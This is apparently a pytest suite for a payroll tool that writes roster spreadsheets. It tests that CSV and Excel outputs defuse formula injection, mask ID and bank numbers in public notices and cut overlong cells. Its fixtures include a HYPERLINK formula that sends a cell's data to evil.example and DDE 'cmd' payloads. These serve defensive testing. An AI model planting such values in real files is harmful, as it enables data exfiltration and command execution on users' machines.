"""Roster text is data, never a formula, in every file a person opens in Excel; no cell is too long
for Excel; an ID or a bank account typed into 区县 or 工作单位 is masked in the 公示名单 and said at
its cell. Every output is read back the way Excel or a reader would see it."""
from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from swtalent.api import run_compute
from swtalent.reports import files
from swtalent.reports.files import write_outputs
from swtalent.reports.labels import labels
from swtalent.reports.sheets import Sheet
from swtalent.reports.workbook import write_sheets
from swtalent.safety import (
    PERSONAL_NUMBER,
    defuse,
    defused,
    excel_frame,
    has_personal_number,
    mask_digits,
    mask_personal_numbers,
)

from .conftest import CHUZHOU, HEADERS, make_id, person
from .formats import write_book
from .test_cli import invoke

UNIT_HEADERS = HEADERS + ["工作单位"]
LINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击领取")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0 6217000011112224"  # a formula and an account in one cell
PLUS_CMD = "+cmd|' /C calc'!A0"
MINUS_CMD = "-2+3+cmd|' /C calc'!A0"
ID_X = next(make_id(k) for k in range(100, 999) if make_id(k).endswith("X"))
SPACED = "6217 0000 1111 2222 333"
HYPHENED = "6217-0000-1111-2223"
OLD_ID = "341102900101001"  # a 15-digit ID
PHONE = "13812345678"
# (district, unit) of each paid row, in roster order: the row's sheet row is its index + 2.
PLACES = [
    ("琅琊区", LINK), ("琅琊区", AT_SUM), (PLUS_CMD, "幸福社区"), (MINUS_CMD, "和平社区"),
    (f"南谯区{ID_X}", "光明社区"), ("琅琊区", f"滁州农商行 {SPACED} 幸福社区"), ("琅琊区", f"账号{HYPHENED}，和平社区"),
    ("南谯区", f"老身份证{OLD_ID}"), ("南谯区", f"联系电话 {PHONE}"), ("+5", "-12.50"), ("琅琊区", "-"),
]
polars_csv = files._write_csv_polars
HOSTILE = [LINK, AT_SUM, PLUS_CMD, MINUS_CMD]
SECRETS = [ID_X, ID_X.lower(), SPACED, SPACED.replace(" ", ""), HYPHENED, HYPHENED.replace("-", ""), OLD_ID,
           "6217000011112224", "0000 1111 2222", "0000-1111-2223", "0000111122224"]
LEAD = ("=", "+", "-", "@", "\t", "\r")
NOTE = re.compile(r"…（已截断，原文 (\d+) 字）$")


def plain_number(text: str) -> bool:
    return bool(re.fullmatch(r"[+-]?\d+(\.\d+)?|[+-]", text))


def live(value: object) -> bool:
    """Would Excel read this text as a formula?"""
    return isinstance(value, str) and value[:1] in LEAD and not plain_number(value)


def csv_roster(tmp_path, places=PLACES, name="roster.csv", level="助理社会工作师"):
    rows = [person(k + 1, district=d, level=level) + [u] for k, (d, u) in enumerate(places)]
    return write_book(tmp_path / name, {"花名册": [UNIT_HEADERS] + rows})


def read_csv(path, encoding="utf-8"):
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.reader(fh))


def cells(path):
    """Every cell of every sheet, as openpyxl reads it (data_type 'f' is a formula)."""
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_inert_workbook(path):
    found = cells(path)
    assert found
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert not [(c.parent.title, c.coordinate, c.value) for c in found if live(c.value)]
    assert all(len(c.value) <= 32767 for c in found if isinstance(c.value, str))


def zip_text(path) -> str:
    """Every part of an .xlsx, not only the cells openpyxl shows."""
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())


# --- the helpers -----------------------------------------------------------------------------

@pytest.mark.parametrize("text,expected", [
    ("=1+1", "'=1+1"), (LINK, "'" + LINK), ("@SUM(A1)", "'@SUM(A1)"), (PLUS_CMD, "'" + PLUS_CMD),
    (MINUS_CMD, "'" + MINUS_CMD), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-A1", "'-A1"), ("+", "+"),
    ("-12.50", "-12.50"), ("+5", "+5"), ("-", "-"), ("-1e5", "'-1e5"), ("5%", "5%"),
    ("幸福社区", "幸福社区"), ("", ""), ("'=1", "'=1"), ("a=b", "a=b"),
])
def test_defuse_quotes_what_excel_would_run_and_leaves_numbers(text, expected):
    assert defuse(text) == expected
    assert list(defused(np.array([text, None, text], dtype=object))) == [expected, None, expected]


def test_personal_numbers_are_ids_and_accounts_not_phones_or_dates():
    texts = [ID_X, f"南谯区{ID_X.lower()}", SPACED, HYPHENED, OLD_ID, "621700001111", f"x{make_id(7)}y",
             PHONE, "0550-1234567", "2023-01-01", "2023年第1批", "12345678901", "1234 5678", "幸福社区"]
    assert has_personal_number(texts).tolist() == [True] * 7 + [False] * 7


# Every way the review found an ID or an account typed with separators, masked (policy default: keep
# 4 first and 4 last digits) digit by digit with its separators kept.
@pytest.mark.parametrize("text,expected", [
    ("6217.0000.1111.2222", "6217.****.****.2222"),
    ("6217/0000/1111/2222", "6217/****/****/2222"),
    ("6217_0000_1111_2222", "6217_****_****_2222"),
    ("6217  0000  1111  2222", "6217  ****  ****  2222"),
    ("6217–0000–1111–2222", "6217–****–****–2222"),
    ("6217—0000—1111—2222", "6217—****—****—2222"),
    ("6217\u30000000\u30001111\u30002222", "6217\u3000****\u3000****\u30002222"),
    ("6217，0000，1111，2222", "6217，****，****，2222"),
    ("6217|0000|1111|2222", "6217|****|****|2222"),
    ("6217\u200b0000\u200b1111\u200b2222", "6217\u200b****\u200b****\u200b2222"),
    ("6217·0000·1111·2222", "6217·****·****·2222"),
    ("621700 001111 222233", "6217** ****** **2233"),
    ("62170000 11112222 333", "6217**** *******2 333"),
    ("62170000 1111 2222 333", "6217**** **** ***2 333"),
    ("341102,19850615,0019", "3411**,********,0019"),
    ("341102(19850615)0019", "3411**(********)0019"),
    ("341102（19850615）0019", "3411**（********）0019"),
    ("341102 198506150019", "3411** ********0019"),
    ("34110219850615 0019", "3411********** 0019"),
    ("341102 19850615 001X", "3411** ******** 001X"),
    ("34110219850615001x", "3411**********001x"),
    ("341102900101001", "3411*******1001"),  # a 15-digit ID
    ("621700001111", "6217****1111"),  # 12 digits: the least an account holds
    ("工作单位：幸福社区 账号 6217.0000.1111.2222。", "工作单位：幸福社区 账号 6217.****.****.2222。"),
])
def test_personal_numbers_with_any_separator_are_masked_by_digit(text, expected):
    assert list(mask_personal_numbers(np.array([text, None, "幸福社区"], dtype=object), 4, 4)) == [expected, None, "幸福社区"]
    assert has_personal_number([text, "幸福社区"]).tolist() == [True, False]


@pytest.mark.parametrize("text", [
    "0550-3021234", "138 0013 8000", "13800138000", "(0550) 302-1234", "0550—3021234", "2023-01-15", "2023.10.01",
    "2023/10/01", "2023-10-01 10:30:00", "2023年第1批", "1234 5678", "12345678901", "幸福路12号 0550-3021234",
    "电话 138 0013 8000 联系人", "0550-3021234 转 8012", "1985.06.15",
])
def test_phones_and_dates_are_not_personal_numbers(text):
    assert not has_personal_number([text]).any()
    assert mask_personal_numbers(np.array([text], dtype=object), 4, 4) is None


@pytest.mark.parametrize("text,expected", [
    ("341102 198506150019", "341102 ********0019"),
    ("34110219850615 0019", "341102******** 0019"),
    ("341102,19850615,0019", "341102,********,0019"),
    ("3411 0219 8506 1500 19", "3411 02** **** **00 19"),
])
def test_a_keep_first_of_6_shows_no_birth_digit(text, expected):
    assert mask_digits(text, 6, 4) == expected
    assert list(mask_personal_numbers(np.array([text], dtype=object), 6, 4)) == [expected]


ID_FORMS = ["{}{}{}", "{}{}{}x", "{} {} {}", "{}-{}-{}", "{}({}){}", "{}, {}, {}", "{}  {}{}", "{}{} {}", "{} {}{}",
            "{}.{}.{}", "{}/{}/{}", "{}_{}_{}", "{}–{}–{}", "{}（{}）{}"]


@pytest.mark.parametrize("form", ID_FORMS)
def test_birth_digits_are_hidden_under_every_mask_the_policy_allows(form):
    """Any split of an 18-character ID, any keep_first <= 6 and keep_last <= 4 (the policy's bounds):
    digits 7-14 (the birth date) are masked, and only digits are."""
    region, birth, tail = "341102", "19850615", "001X"
    text = form.format(region, birth, tail) if form[-1] != "x" else region + birth + "001x"
    for first in range(7):
        for last in range(5):
            out = mask_personal_numbers(np.array([f"单位 {text} 社区"], dtype=object), first, last, "#")[0]
            assert out.startswith("单位 ") and out.endswith(" 社区")
            run = out[3:-3]
            assert [c for c in run if c not in "0123456789Xx#"] == [c for c in text if c not in "0123456789Xx"]
            shown = [c for c in run if c in "0123456789Xx#"]
            assert len(shown) == 18 and shown[6:14] == ["#"] * 8
            assert shown[:first] == list(region + birth)[:first] and "".join(shown[18 - last:]) == (text[-last:] if last else "")


def test_the_warning_and_the_mask_agree():
    """One pattern: a value is warned about exactly when the 公示名单 changes it."""
    values = np.array([
        "6217.0000.1111.2222", "341102(19850615)0019", "0550-3021234", "2023-01-15", "幸福社区", "", None,
        "A0 6217000011112224", "62170000 1111 2222 333", "138 0013 8000", "1234 5678 9012", "1234 5678 901",
        "13800138000/13900139000", "账号：6217 0000 1111 2222 333", "3411021985061500 1X",
    ], dtype=object)
    warned = has_personal_number(values)
    masked = mask_personal_numbers(values, 4, 4)
    assert warned.tolist() == [m != v for m, v in zip(masked, values)]
    assert warned.tolist() == [isinstance(v, str) and PERSONAL_NUMBER.search(v) is not None for v in values]
    assert warned.sum() == 8


def test_personal_numbers_are_searched_once_over_a_large_column():
    """100,000 distinct addresses with phones and dates: no per-value work, nothing changed."""
    values = np.array([f"幸福路{k}号 电话0550-{3000000 + k} 于{2023 + k % 3}-01-15" for k in range(100_000)], dtype=object)
    assert not has_personal_number(values).any()
    assert mask_personal_numbers(values, 4, 4) is None


def test_a_frame_with_nothing_to_change_is_not_copied():
    frame = pd.DataFrame({"a": ["x", "y"], "b": [1.5, -2.0], "c": np.array([None, "-3"], dtype=object)})
    assert excel_frame(frame) is frame


# --- compute's outputs -----------------------------------------------------------------------

@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("safety")
    src = csv_roster(tmp)
    paths = {"xlsx": tmp / "x.xlsx", "csv": tmp / "d.csv", "json": tmp / "d.json",
             "notice_csv": tmp / "n.csv", "notice_xlsx": tmp / "n.xlsx"}
    base = ["compute", src, "--policy", CHUZHOU, "--period", "2023"]
    first = invoke(*base, "--out", paths["xlsx"], "--out", paths["csv"], "--out", paths["json"],
                   "--notice", paths["notice_csv"])
    assert first.exit_code == 0, first.output
    second = invoke(*base, "--notice", paths["notice_xlsx"])
    assert second.exit_code == 0, second.output
    return src, paths


def test_no_workbook_cell_is_a_formula_or_reads_as_one(outputs):
    _, paths = outputs
    for key in ("xlsx", "notice_xlsx"):
        assert_inert_workbook(paths[key])


def test_roster_text_is_kept_with_a_leading_quote(outputs):
    _, paths = outputs
    payroll = openpyxl.load_workbook(paths["xlsx"])["发放花名册（一次性）"]
    rows = list(payroll.iter_rows(values_only=True))
    header = list(rows[2])
    lines = [dict(zip(header, r)) for r in rows[3:] if isinstance(r[0], (int, float))]
    units = {r["工作单位"] for r in lines}
    districts = {r["区县"] for r in lines}
    assert {"'" + LINK, "'" + AT_SUM} <= units and {"'" + PLUS_CMD, "'" + MINUS_CMD} <= districts
    assert {"-12.50", "-"} <= units and "+5" in districts  # plain numbers and a lone dash stay as written
    # The warning's value (the cell as written) on the 数据问题 sheet is inert too.
    problems = list(openpyxl.load_workbook(paths["xlsx"])["数据问题"].iter_rows(min_row=2, values_only=True))
    assert ("roster.personal-number", "'" + AT_SUM) in {(r[1], r[5]) for r in problems}


@pytest.mark.parametrize("key,encoding", [("csv", "utf-8"), ("notice_csv", "utf-8-sig")])
def test_no_csv_field_reads_as_a_formula(outputs, key, encoding):
    _, paths = outputs
    rows = read_csv(paths[key], encoding)
    assert len(rows) > len(PLACES)
    assert not [f for r in rows for f in r if live(f)]


def test_notice_csv_carries_the_roster_text_quoted(outputs):
    _, paths = outputs
    header, *body = read_csv(paths["notice_csv"], "utf-8-sig")
    units = {r[header.index("工作单位")] for r in body}
    districts = {r[header.index("区县")] for r in body}
    assert "'" + LINK in units and {"'" + PLUS_CMD, "'" + MINUS_CMD} <= districts
    # quoted and masked; the 0 of A0 and the account are one run of digits (joined by a space)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0 621*********2224" in units


def test_the_detail_csv_quotes_a_formula_name_and_json_keeps_it(tmp_path, outputs):
    src, _ = outputs
    comp = run_compute(src, CHUZHOU, "2023")
    comp.lines["name"] = np.where(np.arange(len(comp.lines)) % 2 == 0, LINK, comp.lines["name"].to_numpy())
    d_csv, d_json = tmp_path / "d.csv", tmp_path / "d.json"
    write_outputs(comp, [d_csv, d_json])
    header, *body = read_csv(d_csv)
    names = [r[header.index("name")] for r in body]
    assert names[0] == "'" + LINK and not [f for r in body for f in r if live(f)]
    assert json.loads(d_json.read_text(encoding="utf-8"))[0]["name"] == LINK  # JSON is exact
    assert [r[header.index("amount")] for r in body] == [r["amount"] for r in json.loads(d_json.read_text("utf-8"))]


@pytest.mark.parametrize("key", ["notice_csv", "notice_xlsx"])
def test_notice_masks_ids_and_accounts_in_every_text_column(outputs, key):
    _, paths = outputs
    path = paths[key]
    text = path.read_bytes().decode("utf-8-sig") if key == "notice_csv" else zip_text(path)
    assert not [s for s in SECRETS if s in text]
    if key == "notice_csv":
        header, *body = read_csv(path, "utf-8-sig")
    else:
        sheet = list(openpyxl.load_workbook(path)["公示名单"].iter_rows(values_only=True))
        header, body = list(sheet[2]), [list(r) for r in sheet[3:-3]]  # under the title and the 公示期 line
    units = {r[header.index("工作单位")] for r in body}
    districts = {r[header.index("区县")] for r in body}
    assert f"南谯区{ID_X[:4]}{'*' * 10}{ID_X[-4:]}" in districts  # the policy's mask: keep 4, hide, keep 4
    assert "滁州农商行 6217 **** **** ***2 333 幸福社区" in units  # masked by digit, the spaces kept
    assert "账号6217-****-****-2223,和平社区" in units  # the roster's text is read NFKC: a half-width comma
    assert f"老身份证3411{'*' * 7}1001" in units
    assert f"联系电话 {PHONE}" in units  # a phone number is not an ID


def test_the_personal_number_warning_is_at_its_cell(outputs):
    src, _ = outputs
    comp = run_compute(src, CHUZHOU, "2023")
    found = [i for i in comp.roster.issues if i.code == "roster.personal-number"]
    # 区县 is column I, 工作单位 column J; row k of PLACES is sheet row k + 2.
    assert sorted(i.location.cell for i in found) == ["I6", "J3", "J7", "J8", "J9"]
    assert all(i.severity == "warning" for i in found)
    by_cell = {i.location.cell: i for i in found}
    assert by_cell["J7"].location.column == "工作单位" and by_cell["J7"].value == PLACES[5][1]
    assert by_cell["I6"].message("zh") == "「区县」中有疑似身份证号或银行账号的数字，公示名单中已遮盖"
    assert "工作单位" in by_cell["J7"].message("en") and by_cell["J7"].hint("zh")
    assert comp.counts()["rows_paid"] == len(PLACES)  # a warning: every row is still paid


def test_the_diff_workbook_holds_no_formula(tmp_path):
    from .test_diff import raised

    src = csv_roster(tmp_path, level="社会工作师")  # the raised policy pays them more from 2024
    out = tmp_path / "what-if.xlsx"
    result = invoke("diff", src, "--policy", CHUZHOU, "--policy", raised(tmp_path), "--period", "2024", "--out", out)
    assert result.exit_code == 0, result.output
    assert_inert_workbook(out)
    book = openpyxl.load_workbook(out)
    items = {r[0] for r in book["政策测算"].iter_rows(values_only=True)}
    districts = {r[2] for r in book["变动人员"].iter_rows(min_row=2, values_only=True)}
    assert {"'" + PLUS_CMD, "'" + MINUS_CMD} <= items & districts


# --- check --annotate ----------------------------------------------------------------------------

def test_annotated_copy_of_a_csv_roster_holds_no_formula(tmp_path):
    long_unit = "长" * 40_000
    src = csv_roster(tmp_path, PLACES + [("琅琊区", long_unit)])
    out = tmp_path / "checked.xlsx"
    result = invoke("check", src, "--policy", CHUZHOU, "--annotate", out)
    assert result.exit_code in (0, 1), result.output
    assert_inert_workbook(out)
    book = openpyxl.load_workbook(out)
    roster = book[book.sheetnames[1]]
    assert roster["J2"].value == "'" + LINK and roster["J2"].data_type == "s"
    assert roster["I4"].value == "'" + PLUS_CMD and roster["I5"].value == "'" + MINUS_CMD
    assert roster["J11"].value == "-12.50" and roster["I11"].value == "+5"  # numbers as written
    assert "公示名单中已遮盖" in roster["J3"].comment.text
    cut = roster[f"J{len(PLACES) + 2}"].value
    assert len(cut) <= 32767 and cut.startswith("长" * 32_000) and NOTE.search(cut).group(1) == "40000"
    problems = list(book[book.sheetnames[0]].iter_rows(min_row=2, values_only=True))
    assert ("roster.personal-number", "J3", "'" + AT_SUM) in {(r[1], r[3], r[6]) for r in problems}


# --- text past Excel's limit -------------------------------------------------------------------

def test_a_long_unit_does_not_fail_the_workbook_writer(tmp_path):
    src = csv_roster(tmp_path, [("琅琊区", "幸福社区"), ("琅琊区", "长" * 40_000)])
    out, notice = tmp_path / "x.xlsx", tmp_path / "n.xlsx"
    result = invoke("compute", src, "--policy", CHUZHOU, "--period", "2023", "--out", out, "--notice", notice)
    assert result.exit_code != 3, result.output
    assert result.exit_code in (0, 1), result.output
    for path in (out, notice):  # whether the row is paid or held, every cell fits
        assert_inert_workbook(path)


@pytest.mark.parametrize("lang,note", [("zh", "…（已截断，原文 40000 字）"), ("en", "… (cut, 40000 characters)")])
def test_long_text_is_cut_to_fit_with_a_note(tmp_path, lang, note):
    comp = run_compute(csv_roster(tmp_path, [("琅琊区", "幸福社区"), ("琅琊区", "和平社区")]), CHUZHOU, "2023")
    comp.lines["unit"] = "长" * 40_000
    out, notice = tmp_path / "x.xlsx", tmp_path / "n.xlsx"
    write_outputs(comp, [out], lang, notice=notice)
    for path in (out, notice):
        long = [c.value for c in cells(path) if isinstance(c.value, str) and c.value.startswith("长" * 100)]
        assert long and all(len(v) == 32767 and v.endswith(note) for v in long)
    # A title line and an astral character (two UTF-16 units in Excel's count) are cut too.
    big = "𠀀" * 20_000
    path = tmp_path / "s.xlsx"
    frame = pd.DataFrame({"a": [big, "短"], "b": [1.0, 2.0]})
    write_sheets(path, [Sheet("S", frame, header_row=1, title=[big])], labels(lang))
    sheet = openpyxl.load_workbook(path)["S"]
    for value in (sheet["A1"].value, sheet["A3"].value):
        assert len(value.encode("utf-16-le")) // 2 <= 32767 and value.endswith(note.replace("40000", "20000"))


@pytest.mark.parametrize("bom", [True, False])
def test_a_large_detail_csv_is_written_byte_for_byte_as_a_small_one(tmp_path, outputs, monkeypatch, bom):
    """From files.POLARS_CSV_FROM lines polars writes the detail CSV: the same bytes as the csv
    module, for texts that need quoting, an empty one, a formula, a line break and a lone CR."""
    src, _ = outputs
    comp = run_compute(src, CHUZHOU, "2023")
    odd = [LINK, 'say "hi", then go', "two\nlines", "carriage\rreturn", "", " 空格 ", "a,b", '"', PLUS_CMD,
           "@SUM(A1)", "-1+2", "\tx", "\rx", "-12.50", "+5", "-", "＝1"]
    comp.lines["name"] = [odd[k % len(odd)] for k in range(len(comp.lines))]
    comp.lines["person_id"] = [odd[(k + 3) % len(odd)] for k in range(len(comp.lines))]
    # The categorical columns too (a policy's rule id, a level), one level missing.
    comp.lines["rule_id"] = pd.Categorical([("=r", "-5", "r")[k % 3] for k in range(len(comp.lines))])
    comp.lines["level"] = pd.Categorical([(None, "@l", "senior")[k % 3] for k in range(len(comp.lines))])
    small, large = tmp_path / "small.csv", tmp_path / "large.csv"
    monkeypatch.setattr(files, "POLARS_CSV_FROM", 1 << 62)
    write_outputs(comp, [small], csv_bom=bom)
    monkeypatch.setattr(files, "POLARS_CSV_FROM", 0)
    wrote = []
    monkeypatch.setattr(files, "_write_csv_polars", lambda *a: wrote.append(polars_csv(*a)) or wrote[-1])
    write_outputs(comp, [large], csv_bom=bom)
    assert wrote == [True] and large.read_bytes() == small.read_bytes()
    assert len(read_csv(large, "utf-8-sig")) == len(comp.lines) + 1


def test_a_large_detail_csv_with_a_value_that_is_not_text_is_written_by_the_csv_module(tmp_path, outputs, monkeypatch):
    src, _ = outputs
    comp = run_compute(src, CHUZHOU, "2023")
    comp.lines["name"] = [12345] + comp.lines["name"].tolist()[1:]  # a number where a name should be
    monkeypatch.setattr(files, "POLARS_CSV_FROM", 0)
    write_outputs(comp, [tmp_path / "d.csv"])
    header, *body = read_csv(tmp_path / "d.csv", "utf-8-sig")
    assert body[0][header.index("name")] == "12345" and len(body) == len(comp.lines)


def test_a_large_detail_csv_goes_to_a_folder_named_tilde_not_the_home_folder(tmp_path, outputs, monkeypatch):
    """`--out ~/d.csv` quoted by the shell is a folder named "~" under the working folder; polars,
    given a path, would expand it to the home folder."""
    src, _ = outputs
    comp = run_compute(src, CHUZHOU, "2023")
    home, work = tmp_path / "home", tmp_path / "work"
    (work / "~").mkdir(parents=True)
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(work)
    monkeypatch.setattr(files, "POLARS_CSV_FROM", 0)
    write_outputs(comp, [Path("~/d.csv")])
    assert len(read_csv(work / "~" / "d.csv", "utf-8-sig")) == len(comp.lines) + 1
    assert list(home.iterdir()) == []
